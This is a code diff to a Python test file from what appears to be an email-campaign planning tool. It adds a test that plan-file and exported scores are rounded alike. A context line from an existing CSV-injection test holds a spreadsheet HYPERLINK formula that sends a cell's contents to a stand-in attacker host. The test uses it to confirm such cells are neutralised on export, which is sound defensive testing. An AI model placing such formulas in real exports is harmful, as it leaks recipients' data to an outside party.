@@ -377,3 +377,25 @@ def test_contact_cells_a_spreadsheet_would_run_as_a_formula_are_exported_as_text
         "'=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "'+31 6 1234", "'-x@example.com"]
     assert [rows["C2"][k] for k in ("first_name", "last_name", "email")] == ["'@SUM(1+1)", "'\tTab", "anna@example.com"]
     assert [rows["C3"][k] for k in ("first_name", "last_name", "email")] == ["Anna-Lena", "O'Neil = me", "b@example.com"]
+
+
+def test_a_plan_file_and_the_export_of_the_written_run_round_scores_alike(engine, tmp_path):
+    """The plan file rounds what the ledger stores (6 decimals) to 4, as the export does, not the raw score."""
+    from relmail.planning import decisions as dec
+    from relmail.planning.export import export_run
+    from relmail.store.models import Run
+
+    now = datetime(2026, 11, 23, 12, tzinfo=UTC)
+    made = dec.Decisions(np.array(["C1", "C2"]), np.array(["m", "m"]), np.array(["suppress", "holdout"]),
+                         np.array([0.123449996, 0.5]), np.array([2.000049996, -1.0]), np.array(["LOW_RELEVANCE", "HOLDOUT"]),
+                         np.array(["{}", "{}"]))
+    with engine.begin() as conn:
+        conn.execute(Run.__table__.insert(), [{"id": "weekly:2026-W48", "campaign": "weekly", "window": "2026-W48", "as_of": now,
+                                               "seed": 0, "status": "planned", "config_hash": "", "created_at": now, "updated_at": now}])
+        dec.write(conn, "weekly:2026-W48", made, now)
+    export_run(engine, "weekly:2026-W48", tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as fh:
+        exported = {r["customer_id"]: (float(r["score"]), float(r["expected_value"])) for r in csv.DictReader(fh)}
+    planned = {r["customer_id"]: (r["score"], r["expected_value"]) for r in made.records(features=False)}
+    assert planned == exported
+    assert planned["C1"][0] == 0.1235 != round(0.123449996, 4)
